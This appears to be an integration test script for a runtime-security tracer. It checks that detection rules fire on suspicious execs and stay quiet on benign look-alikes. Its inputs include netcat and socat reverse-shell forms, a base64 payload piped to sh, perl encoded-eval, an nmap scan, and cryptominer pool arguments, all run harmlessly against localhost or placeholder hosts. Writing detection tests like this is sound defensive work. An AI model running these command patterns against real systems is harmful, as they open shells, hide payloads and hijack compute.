#!/bin/sh
# sig_live_procs_exec.sh - the execution rules of the TRC-21xx family, for
# real (root, real eBPF).  One tracee with the built-in signatures; every
# behaviour is a real exec (of /bin/true or dash copied under the name the
# rule knows), checked by pid, next to a benign twin that must stay quiet:
#   TRC-2101 exec_from_temp_dir          a program run from /tmp / /bin/true;
#                                        a `go test` binary under /tmp; one
#                                        that "dpkg" runs
#   TRC-2102 exec_from_hidden_dir        run from .hid/ / from .local/bin
#   TRC-2104 shell_base64_payload        sh -c 'echo .. | base64 -d | sh' /
#                                        sh -c '... | base64' (encoding)
#   TRC-2105 interpreter_encoded_payload perl -e 'eval(decode_base64(..))' /
#                                        perl -e 'print 1'
#   TRC-2123 netcat_exec                 nc -e /bin/sh, socat EXEC: / nc -z,
#                                        socat - TCP:
#   TRC-2124 network_scanner             nmap / nmap-report
#   TRC-2127 service_shell               "postgres" forks sh -i / sh -c;
#                                        "make" forks sh -i
#   TRC-2132 proxy_env_socks             ALL_PROXY=socks5h:// / https_proxy
#                                        to an HTTP proxy
#   TRC-2133 cryptominer_args            pool:3333 with -u; stratum+tcp:// /
#                                        -o out.txt -u; host:5432
# Nothing runs for long and nothing is written outside the scratch dir.

. "$top_srcdir/tests/integration/sig_live_lib.sh"
. "$top_srcdir/tests/integration/sig_live_procs_lib.sh"

command -v perl >/dev/null 2>&1 || skip_all "perl is missing"
mkdir -p "$D/.hid" "$D/.local/bin" "$D/go-build1234/b001"
cp /bin/true "$D/tool" && cp /bin/true "$D/.hid/tool" && cp /bin/true "$D/.local/bin/tool" &&
	cp /bin/true "$D/go-build1234/b001/pkg.test" || skip_all "cannot copy /bin/true"
for p in nc socat nmap nmap-report kswapd0 xmr app app2; do mkprog $p; done
mkprog postgres /bin/dash
mkprog make /bin/dash

sl_start

run_pid P2101 "$D/tool"
run_pid P2101T /bin/true
run_pid P2101G "$D/go-build1234/b001/pkg.test"
run_pid P2102 "$D/.hid/tool"
run_pid P2102T "$D/.local/bin/tool"
run_pid P2104 /bin/sh -c 'echo ZXhpdCAwCg== | base64 -d | sh'
run_pid P2104T /bin/sh -c 'echo hello | base64 >/dev/null'
run_pid P2105 perl -e 'eval(decode_base64("MQ=="))'
run_pid P2105T perl -e 'print ""'
run_pid P2123 "$D/bin/nc" -e /bin/sh 127.0.0.1 9
run_pid P2123S "$D/bin/socat" TCP:127.0.0.1:9 EXEC:/bin/sh
run_pid P2123T "$D/bin/nc" -z 127.0.0.1 9
run_pid P2123ST "$D/bin/socat" - TCP:127.0.0.1:9
run_pid P2124 "$D/bin/nmap" -sS 127.0.0.1
run_pid P2124T "$D/bin/nmap-report" scan.xml
# a service forks an interactive shell (the shell's pid written by the
# service), a shell command of its own, and a non-service forks one too
svc() { # VAR PROG SHELL-ARGS
	"$D/bin/$2" -c "/bin/sh $3 </dev/null 2>/dev/null & echo \$! >\"$D/pid\"; wait" \
		2>>"$D/actions.err"
	eval "$1=\$(cat \"\$D/pid\")"
}
svc P2127 postgres -i
svc P2127T postgres '-c "exit 0"'
svc P2127T2 make -i
# a package manager's maintainer script runs a program from /tmp
mkprog dpkg /bin/dash
"$D/bin/dpkg" -c "\"$D/tool\" & echo \$! >\"$D/pid\"; wait" 2>>"$D/actions.err"
P2101D=$(cat "$D/pid")
run_pid P2132 env -i PATH=/usr/bin:/bin ALL_PROXY=socks5h://127.0.0.1:9050 /bin/true
run_pid P2132T env -i PATH=/usr/bin:/bin https_proxy=http://proxy.example:3128 /bin/true
run_pid P2133 "$D/bin/kswapd0" -o pool.example.com:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSk -p x
run_pid P2133S "$D/bin/xmr" --url=stratum+tcp://pool.example.com:443 --threads 2
run_pid P2133T "$D/bin/app" -o out.txt -u user
run_pid P2133T2 "$D/bin/app2" --connect db.example.com:5432

sl_stop

fires TRC-2101 exec_from_temp_dir "pid:$P2101" "a program run from $D"
quiet TRC-2101 exec_from_temp_dir "pid:$P2101T" "/bin/true"
quiet TRC-2101 exec_from_temp_dir "pid:$P2101G" "a go test binary under /tmp"
quiet TRC-2101 exec_from_temp_dir "pid:$P2101D" "run by dpkg (a maintainer script)"
fires TRC-2102 exec_from_hidden_dir "pid:$P2102" "a program run from .hid/"
quiet TRC-2102 exec_from_hidden_dir "pid:$P2102T" "a program run from .local/bin"
fires TRC-2104 shell_base64_payload "pid:$P2104" "sh -c 'echo .. | base64 -d | sh'"
quiet TRC-2104 shell_base64_payload "pid:$P2104T" "sh -c '... | base64' (encoding)"
fires TRC-2105 interpreter_encoded_payload "pid:$P2105" "perl -e 'eval(decode_base64(..))'"
quiet TRC-2105 interpreter_encoded_payload "pid:$P2105T" "perl -e 'print'"
fires TRC-2123 netcat_exec "pid:$P2123" "nc -e /bin/sh"
fires TRC-2123 netcat_exec "pid:$P2123S" "socat EXEC:/bin/sh"
quiet TRC-2123 netcat_exec "pid:$P2123T" "nc -z"
quiet TRC-2123 netcat_exec "pid:$P2123ST" "socat - TCP:"
fires TRC-2124 network_scanner "pid:$P2124" "nmap"
quiet TRC-2124 network_scanner "pid:$P2124T" "nmap-report"
fires TRC-2127 service_shell "pid:$P2127" "postgres forks sh -i"
quiet TRC-2127 service_shell "pid:$P2127T" "postgres forks sh -c 'exit 0'"
quiet TRC-2127 service_shell "pid:$P2127T2" "make forks sh -i"
fires TRC-2132 proxy_env_socks "pid:$P2132" "ALL_PROXY=socks5h://127.0.0.1:9050"
quiet TRC-2132 proxy_env_socks "pid:$P2132T" "https_proxy=http://proxy.example:3128"
fires TRC-2133 cryptominer_args "pid:$P2133" "-o pool:3333 -u wallet"
fires TRC-2133 cryptominer_args "pid:$P2133S" "stratum+tcp:// URL"
quiet TRC-2133 cryptominer_args "pid:$P2133T" "-o out.txt -u user"
quiet TRC-2133 cryptominer_args "pid:$P2133T2" "host:5432"

done_testing
